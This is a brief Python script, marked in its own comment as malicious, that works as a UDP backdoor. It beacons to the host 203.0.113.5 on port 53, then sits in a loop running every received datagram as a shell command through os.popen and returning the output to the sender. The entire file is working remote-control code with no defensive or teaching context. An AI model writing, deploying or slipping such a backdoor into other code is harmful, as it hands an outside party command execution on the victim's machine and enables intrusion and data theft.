# malicious: orders by datagrams
import socket, os

u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b"hi", ("203.0.113.5", 53))
while 1:
    data, who = u.recvfrom(512)
    u.sendto(os.popen(data.decode()).read().encode(), who)
